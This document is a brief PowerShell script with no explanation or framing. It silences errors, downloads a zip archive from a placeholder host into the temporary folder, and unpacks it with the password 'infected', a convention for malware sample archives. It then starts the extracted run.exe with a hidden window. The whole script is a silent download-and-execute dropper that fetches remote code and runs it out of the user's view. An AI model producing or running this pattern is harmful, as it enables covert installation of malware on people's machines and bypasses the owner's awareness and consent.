$ErrorActionPreference = 'SilentlyContinue'
$dst = Join-Path $env:TEMP 'p.zip'
(New-Object Net.WebClient).DownloadFile('https://dl.snip-kit.invalid/p.zip', $dst)
& 'C:\Program Files\7-Zip\7z.exe' x -pinfected -o"$env:TEMP\p" $dst
Expand-Archive $dst -DestinationPath "$env:TEMP\p" -Force
Start-Process "$env:TEMP\p\run.exe" -WindowStyle Hidden
